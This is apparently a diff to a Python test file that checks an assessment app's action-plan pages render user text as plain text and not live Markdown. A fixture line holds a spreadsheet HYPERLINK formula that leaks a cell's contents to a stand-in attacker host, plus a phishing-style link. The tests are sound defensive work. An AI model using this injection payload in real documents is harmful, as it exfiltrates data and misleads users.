@@ -10,6 +10,7 @@ import pytest
 
 from assessment.storage import services
 from assessment.storage.actions import stored_actions
+from tests.adversarial.test_user_text import live, markdown_strings
 from tests.app.test_access import ROOT, _database, environment, no_exception, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"evidence") [phish](https://evil.example/p)'
@@ -71,6 +72,7 @@ def test_a_lead_adds_edits_and_closes_an_action(world):
 
     number = int(added["action"])
     at.selectbox(key="actions_edit_action").set_value(number).run()
+    assert _live_markdown(at) == []  # the lead's words stay text
     at.selectbox(key=f"actions_edit_{number}_status").set_value("in progress")
     at.text_area(key=f"actions_edit_{number}_notes").input("Rota agreed at the March board")
     at.button(key="actions_edit_save").click().run()
@@ -126,6 +128,7 @@ def test_a_board_member_reads_the_plan_but_cannot_edit_it(world):
     keys = {b.key for b in at.button}
     assert "actions_add_add" not in keys and "actions_edit_save" not in keys
     assert any("Only the partnership lead" in c.value for c in at.caption)
+    assert _live_markdown(at) == []
     board = Principal.with_grants("board@example.org", [("board_member", world["keys"][0])])
     number = int(_stored(world)["action"].iloc[0])
     with pytest.raises(AccessDenied), world["factory"].begin() as session:
@@ -142,6 +145,11 @@ def test_a_commissioner_sees_the_action_counts_of_their_portfolio(world):
     no_exception(at)
     counts = _table(at, "open", "overdue", "met")
     assert len(counts) == 2 and counts["actions"].sum() >= 1 and counts["overdue"].sum() >= 1
+
+
+def _live_markdown(at) -> list[str]:
+    """Links or images Markdown would make of the page's text (the sidebar's own "Signed in as <email>" aside)."""
+    return [p for text in markdown_strings(at) if not text.startswith("Signed in as") for p in live(text)]
 
 
 def _table(at, *columns):
